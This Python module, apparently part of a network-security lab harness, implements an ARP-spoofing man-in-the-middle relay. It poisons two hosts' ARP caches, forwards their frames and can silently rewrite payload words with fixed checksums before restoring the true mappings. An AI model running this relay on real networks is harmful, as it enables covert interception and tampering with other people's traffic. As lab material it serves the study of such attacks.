"""Stand between two hosts with false ARP replies, and pass on what they send, or something else.

A host believes an ARP reply that it did not ask for (RFC 826 knows no proof). One such reply to each of the
two, and the packets for the other go to her card. A thread gives each the MAC that it should have had, and
lets ``change`` have it first. With the end of the context each host hears the truth again.
"""

import socket
import threading
import time
from collections.abc import Callable, Sequence

from lab.harness.forging import IPV4, Forger, arp_reply, mac_of, parse_segment, with_checksums
from lab.net.lan import Host

POLL_S = 0.05  # how often the thread looks whether it is to end
TRUE_WORD, FALSE_WORD = b"noon", b"nine"  # of one length: the numbers stay right
Change = Callable[[bytes], bytes]


def word_changer(address: str) -> Change:
    """Return what changes a word in frames from an address, and back again in all others, so that nobody there notices."""

    def change(frame: bytes) -> bytes:
        seen = parse_segment(frame)
        if seen is None or not seen.payload:
            return frame
        words = (TRUE_WORD, FALSE_WORD) if seen.source[1] == address else (FALSE_WORD, TRUE_WORD)
        return with_checksums(frame.replace(*words))

    return change


class Relay:
    """Passes frames on between two hosts while entered as a context: after ``delay_s``, as ``change`` returns them."""

    def __init__(self, mallory: Forger, hosts: Sequence[Host], change: Change = bytes, delay_s: float = 0.0):
        self._mallory, self._change, self._delay_s = mallory, change, delay_s
        self._macs = {host.address: mac_of(host) for host in hosts}
        self._ending = threading.Event()
        self._thread = threading.Thread(target=self._pass_on, daemon=True)

    def __enter__(self) -> "Relay":
        self._mallory.segments()  # those from before are nobody's business
        self._announce(dict.fromkeys(self._macs, self._mallory.mac))
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._ending.set()
        self._thread.join()
        self._announce(self._macs)

    def _announce(self, macs: dict[str, bytes]) -> None:
        """Say to each of the two where the other is."""
        for address, mac in macs.items():
            for other in self._macs.keys() - {address}:
                self._mallory.send(arp_reply(self._mallory.mac, address, mac, self._macs[other]))

    def _pass_on(self) -> None:
        while not self._ending.is_set():
            frame = self._mallory.take(POLL_S)
            if not frame or frame[:6] != self._mallory.mac or frame[12:14] != IPV4.to_bytes(2, "big"):
                continue
            changed = self._change(frame)
            to_mac = self._macs.get(socket.inet_ntoa(changed[30:34]), self._mallory.mac)
            if to_mac == self._mallory.mac:
                continue  # a packet of her own
            time.sleep(self._delay_s)
            self._mallory.send(to_mac + self._mallory.mac + changed[12:])
